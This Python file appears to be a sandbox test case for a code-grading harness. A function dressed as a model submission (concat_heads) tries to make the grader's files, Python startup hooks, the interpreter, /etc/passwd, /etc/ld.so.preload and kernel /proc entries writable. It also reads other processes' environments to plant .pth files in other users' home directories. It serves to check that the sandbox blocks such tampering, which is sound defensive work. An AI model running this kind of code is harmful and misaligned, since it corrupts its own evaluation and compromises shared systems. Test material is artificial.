"""Writes into the grader's side of the box and into the Python that everybody uses.

outcome: raised
says: nothing is writable
bites: open
"""

import glob
import os
import sys
import sysconfig

import torch


def places():
    packages = sysconfig.get_path("purelib")
    yield from ("/worker/serve.py", "/worker/softmark-trace.py", f"{packages}/softmark-trace.pth", sys.executable,
                f"{packages}/sitecustomize.py", torch.__file__, os.__file__, "/usr/lib/softmark-trace.so",
                "/etc/ld.so.preload", "/etc/passwd", "/lib64/softmark-trace", "/env/softmark-trace", "/proc/self/exe",
                "/proc/self/mem", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup/softmark-trace",
                "/proc/sysrq-trigger", "/proc/self/oom_score_adj", "/dev/shm/../../worker/softmark-trace")
    # A file that every Python of the same user reads when it starts.
    for home in homes_of_others() - {"/tmp"}:
        yield f"{home}/softmark-trace.pth"


def homes_of_others():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                items = file.read().decode().split("\0")
        except (OSError, UnicodeDecodeError):
            continue
        if path.split("/")[2] != str(os.getpid()):
            found |= {item.partition("=")[2] for item in items if item.startswith("HOME=")}
    return found


def attack():
    for path in places():
        try:
            os.chmod(path, 0o777)
            return path
        except OSError:
            pass
        try:
            os.close(os.open(path, os.O_RDWR if os.path.exists(path) else os.O_RDWR | os.O_CREAT))
            return path
        except OSError:
            pass
    return ""


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError("softmark-harm: " + SEEN[0] if SEEN[0] else "nothing is writable")
